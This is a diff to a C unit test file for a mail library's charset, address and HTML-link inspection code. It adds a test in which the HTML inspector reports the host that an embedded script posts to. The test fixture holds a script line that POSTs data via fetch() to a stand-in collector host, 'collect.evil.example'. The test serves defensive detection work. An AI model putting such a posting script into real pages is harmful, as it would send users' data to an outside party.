@@ -1,8 +1,10 @@
-/* test_mail_text.c - charsets, RFC 2047 encoded words and address lists. */
+/* test_mail_text.c - charsets, RFC 2047 encoded words, address lists and
+ * what HTML scripts post to. */
 #include "core/arena.h"
 #include "core/buf.h"
 #include "mail/address.h"
 #include "mail/charset.h"
+#include "mail/links.h"
 
 #include <setjmp.h>
 #include <stdarg.h>
@@ -131,11 +133,35 @@ static void address_lists(void **state) {
     arena_free(&a);
 }
 
+/* The host a script posts to; a script full of URLs without a host costs
+ * memory in proportion to its size, not to its size times the URLs' length
+ * (each candidate used to be copied to the end of the script). */
+static void script_post_target(void **state) {
+    (void)state;
+    arena a;
+    arena_init(&a, 4096);
+    html_facts f;
+    const char *good = "<html><script>fetch(\"https://collect.evil.example/p?x=1\", {method: 'POST'})</script></html>";
+    html_inspect(good, strlen(good), &a, NULL, NULL, 0, &f);
+    assert_string_equal(f.form_target, "collect.evil.example");
+    buf html = {0};
+    buf_puts(&html, "<html><script>");
+    for (int i = 0; i < 2000; i++) buf_puts(&html, "fetch(http:///");
+    buf_puts(&html, "</script></html>");
+    arena_free(&a);
+    arena_init(&a, 4096);
+    html_inspect(html.p, html.len, &a, NULL, NULL, 0, &f);
+    assert_null(f.form_target);
+    assert_true(a.used < (4u << 20));
+    buf_free(&html);
+    arena_free(&a);
+}
+
 int main(void) {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(iso2022jp_with_nec_characters), cmocka_unit_test(labels_lie_or_are_broken),
         cmocka_unit_test(sniffing_without_label),        cmocka_unit_test(encoded_words),
-        cmocka_unit_test(address_lists),
+        cmocka_unit_test(address_lists),                 cmocka_unit_test(script_post_target),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
